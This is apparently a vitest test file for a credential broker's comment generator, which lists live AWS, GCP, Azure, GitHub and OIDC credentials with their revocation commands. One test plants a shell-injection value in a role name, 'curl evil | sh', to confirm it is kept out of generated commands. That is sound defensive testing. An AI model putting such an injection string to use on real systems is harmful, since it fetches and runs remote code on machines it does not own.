import { randomUUID } from "node:crypto";
import { beforeEach, describe, expect, test } from "vitest";
import { liveCredentials } from "../../../src/grant/comments/credentials.ts";
import { canonicalJson, type Json } from "../../../src/base/canonical-json.ts";
import type { IssuedEntry } from "../../../src/ledger/types.ts";
import { appendEntries } from "../../../src/recorder/entries.ts";
import { useStore } from "../../helpers/stores.ts";
import { startWorld, type World } from "../../exchange/world.ts";
import type { Issuer } from "../../exchange/issuer.ts";
import { access, sha } from "../../recorder/world.ts";

describe("what is said of credentials that live on", () => {
  const open = useStore();
  let world: World;
  beforeEach(async () => {
    world = await startWorld((await open()).db, { url: "https://issuer.example" } as Issuer);
  });

  /** Released under the grant of the world, whose plan becomes `plan`. */
  const issue = async (
    kind: IssuedEntry["kind"],
    plan: Record<string, Json>,
    identifiers: Record<string, string>,
    exchange: { sealed_token?: string; state?: "released" | "dropped" } = {},
  ): Promise<string> => {
    const { db, time } = world;
    const id = randomUUID();
    const entry: IssuedEntry = {
      v: 1,
      id: randomUUID(),
      at: "2026-11-23T10:00:00Z",
      type: "issued",
      grant: world.grant,
      path: "requests/x/y.yml",
      exchange: id,
      kind,
      target: "t",
      role: "r",
      subject: "s",
      identifiers,
      expires_at: "2026-11-23T11:00:00Z",
      job: {
        repository_id: 1,
        run_id: 4711,
        run_attempt: 1,
        actor_id: 1,
        sha: sha(1),
        jti_sha256: `sha256:${"a".repeat(64)}`,
      },
      plan_hash: `sha256:${"a".repeat(64)}`,
    };
    await appendEntries(db, access.id, [entry], time.now);
    await db
      .insertInto("exchange")
      .values({
        id,
        iss: "i",
        jti: id,
        grant_id: world.grant,
        run_id: 4711,
        run_attempt: 1,
        state: exchange.state ?? "released",
        started_at: time.now,
        deadline: new Date(time.now.getTime() + 45_000),
        entry_id: entry.id,
        ledger_commit: sha(2),
        correlation_id: "c",
        ...(exchange.sealed_token && { sealed_token: exchange.sealed_token, sealed_until: time.now }),
      })
      .execute();
    await db
      .updateTable("grant")
      .set({ plan: canonicalJson({ kind, ...plan }) })
      .execute();
    return id;
  };
  const text = async () => (await liveCredentials(world.db, world.grant, world.time.now, world.time.now)).join("\n");

  test("aws: the role's older sessions, with the time of the revocation", async () => {
    await issue("aws", { role_arn: "arn:aws:iam::123456789012:role/team/op" }, { access_key_id: "ASIAEXAMPLE" });
    const said = await text();
    expect(said).toContain("- aws, of run 4711: lives until 2026-11-23T11:00:00Z; access\\_key\\_id `ASIAEXAMPLE`");
    expect(said).toContain("aws iam put-role-policy --role-name op --policy-name AWSRevokeOlderSessions");
  });

  test("gcp: the service account, or the pool where there is none", async () => {
    const provider = "projects/123/locations/global/workloadIdentityPools/pool/providers/p";
    await issue("gcp", { service_account: "d@p.iam.gserviceaccount.com", workload_identity_provider: provider }, {});
    expect(await text()).toContain("gcloud iam service-accounts disable d@p.iam.gserviceaccount.com");
    await issue("gcp", { service_account: null, workload_identity_provider: provider }, {});
    expect(await text()).toContain(
      "gcloud iam workload-identity-pools update pool --project 123 --location global --disabled",
    );
  });

  test("azure: an assertion lives as long as the tokens that it was traded for", async () => {
    await issue("azure", { client_id: "2222" }, { graph_tokens_until: "2026-11-24T10:05:00Z" });
    const said = await text();
    expect(said).toContain("lives until 2026-11-24T10:05:00Z");
    expect(said).toContain("az role assignment list --assignee 2222 --all");
  });

  test("github: what we revoked is told as gone, what we could not yet as being revoked; nothing is to be done", async () => {
    await issue("github", {}, { hashed_token: "one" });
    await issue("github", {}, { hashed_token: "two" }, { sealed_token: "v1.x" });
    const said = await text();
    expect(said).toMatch(/Countersign has revoked it at GitHub; hashed\\_token `one`/);
    expect(said).toMatch(/Countersign is revoking it at GitHub; .*hashed\\_token `two`/);
    expect(said).not.toContain("To cut them now");
  });

  test("oidc: only the relying party can", async () => {
    await issue("oidc", { audience: "https://vault.example" }, { assertion_id: "x" });
    expect(await text()).toMatch(/end the sessions at the relying party.*\n\n```sh\nhttps:\/\/vault\.example\n```/);
  });

  test("C62 a name that is more than one word of a shell is not put into a command", async () => {
    await issue("aws", { role_arn: "arn:aws:iam::123456789012:role/a; curl evil | sh #" }, { "a`b": "``` @all" });
    const said = await text();
    expect(said).toContain("--role-name NAME ");
    expect(said).not.toContain("curl");
    expect(said).not.toMatch(/^```[^s\n]/m);
  });

  test("what was dropped was not released; many are counted, not listed", async () => {
    await issue("aws", { role_arn: "arn:aws:iam::123456789012:role/op" }, {}, { state: "dropped" });
    expect(await text()).toBe("No credentials were issued under it.");
    for (let i = 0; i < 22; i++)
      await issue("aws", { role_arn: "arn:aws:iam::123456789012:role/op" }, { n: String(i) });
    const said = await text();
    expect(said).toContain("before (22):");
    expect(said).toContain("and 2 more");
  });
});
